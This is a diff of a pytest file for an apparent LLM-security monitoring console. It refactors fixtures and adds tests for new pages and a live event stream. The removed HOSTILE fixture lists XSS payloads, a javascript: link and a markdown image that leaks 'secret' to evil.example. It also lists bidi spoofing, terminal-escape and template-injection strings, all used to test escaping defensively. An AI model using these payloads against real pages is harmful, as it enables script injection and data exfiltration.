@@ -2,58 +2,34 @@
 
 from __future__ import annotations
 
+import asyncio
 import io
 import json
 import re
 from collections.abc import Iterator
 from html.parser import HTMLParser
 from pathlib import Path
+from typing import Any
 
 import msgspec
 import polars as pl
 import pytest
 from starlette.testclient import TestClient
 
+from llmsec_agent.console import live
 from llmsec_agent.console.access import Access, hashed, matches, read_token, read_users
 from llmsec_agent.console.app import console
+from llmsec_agent.console.asking import Asking
 from llmsec_agent.console.reading import MAX_TEXT, passages, runs
 from llmsec_agent.console.serving import ServeSettings, access_of
 from llmsec_tap.errors import ConfigError
-from llmsec_tap.model import Exchange, Finding, Location, Message, Part, Request, Response, Taxonomy
+from llmsec_tap.model import Message, Part, Request
 from llmsec_tap.storage import StoreWriter, audit, create_store
 from support.exchanges import full_exchange
+from support.hostile import HOSTILE, START, exchange, finding
 from support.journal import Said
 
 TOKEN = "a-token-of-sixteen-and-more"
-START = 1_790_000_000_000_000_000
-HOSTILE = (
-    "<script>alert(1)</script>",
-    '<img src=x onerror="alert(1)">',
-    "</div></main><svg onload=alert(1)>",
-    "[click](javascript:alert(1)) ![x](https://evil.example/?q=secret)",
-    "\u202egnp.exe\u202c \u200b\u2066hidden\u2069",
-    "\x1b]0;title\x07\x1b[2J\x9b31m",
-    '" onmouseover="alert(1)" x="',
-    "{{ 7 * 7 }}{% raw %}",
-)
-
-
-def finding(part: str, start: int, end: int, severity: str = "high") -> Finding:
-    return Finding(
-        finding_id="f1", rule_id="injection.override", rule_version="1", category="prompt_injection", type="override", severity=severity,
-        confidence=0.9, location=Location(part=part, start=start, end=end), preview="<b>…</b>", fingerprint="abc", taxonomy=Taxonomy(), explanation="It <i>overrides</i>.",
-    )  # type: ignore[arg-type]  # fmt: skip
-
-
-def exchange(number: int, text: str = "hi", answer: str = "hello") -> Exchange:
-    return Exchange(
-        exchange_id=f"{number:032x}", client="10.0.0.1:1", server="10.0.0.2:2", started_ns=START + number * 1_000_000_000, ended_ns=START + number * 1_000_000_000 + 5_000_000,
-        provider="openai", api="openai.chat", operation="chat", method="POST", path="/v1/chat/completions", http_version="1.1", status=200 if number % 10 else 500,
-        request_model=f"model-{number % 3}", input_text=text, output_text=answer, tenant=text[:40], risk_score=number % 100,
-        request=Request(messages=[Message(role="user", parts=[Part(type="text", content=text)])]),
-        response=Response(messages=[Message(role="assistant", parts=[Part(type="text", content=answer)])]),
-        findings=[finding("request.messages[0].parts[0]", 0, 2)] if number % 20 == 1 else [],
-    )  # fmt: skip
 
 
 @pytest.fixture(scope="module")
@@ -164,6 +140,11 @@ PAGES = (
     f"/exchanges/{1:032x}",
     "/exchanges/ffff",
     "/findings?since=all",
+    "/alerts?since=all",
+    "/deviations?since=all",
+    "/tenants?since=all",
+    "/workloads?since=all",
+    "/live",
     "/taps",
     "/login",
     "/nowhere",
@@ -261,7 +242,7 @@ def test_forms_of_other_pages_are_refused(folder: Path) -> None:
 
 def test_a_viewer_sees_figures_and_no_content(folder: Path) -> None:
     with client(folder, "viewer") as made:
-        for page in ("/exchanges", f"/exchanges/{2:032x}"):
+        for page in ("/exchanges", f"/exchanges/{2:032x}", "/tenants?since=all", "/workloads?since=all"):
             text = made.get(page).text
             assert "q=secret" not in text
         assert "no content" in made.get(f"/exchanges/{2:032x}").text
@@ -417,3 +398,30 @@ def test_a_proxy_is_believed_from_its_address_alone(folder: Path) -> None:
     for peer, status in (("192.0.2.9", 200), ("192.0.2.10", 303)):
         with TestClient(app, base_url="http://127.0.0.1:8765", client=(peer, 1), follow_redirects=False) as made:
             assert made.get("/taps", headers={"x-user": "ann:analyst"}).status_code == status
+
+
+def test_live_tells_each_exchange_once(tmp_path: Path) -> None:
+    writer = StoreWriter(create_store(tmp_path / "store"))
+    asking = Asking(str(tmp_path / "store"), Said())
+
+    async def heard() -> list[dict[str, Any]]:
+        found: list[dict[str, Any]] = []
+        source = live.events(asking, start_ns=START)
+        assert await anext(source) == b"retry: 2000\n\n"
+        for number in range(3):
+            writer.add(exchange(number + 1, HOSTILE[number]))
+            writer.flush()
+            found.append(json.loads((await asyncio.wait_for(anext(source), 10)).removeprefix(b"data: ")))
+        await source.aclose()
+        return found
+
+    rows = asyncio.run(heard())
+    assert [row["id"] for row in rows] == [f"{number:032x}" for number in (1, 2, 3)]
+    assert [row["cells"][2] for row in rows] == ["model-1", "model-2", "model-0"]
+    writer.close()
+    asking.close()
+
+
+def test_tenants_and_workloads_are_grouped(admin: TestClient) -> None:
+    assert admin.get("/tenants?since=all").text.count("<tr>") > 8
+    assert "python" in admin.get("/workloads?since=all").text
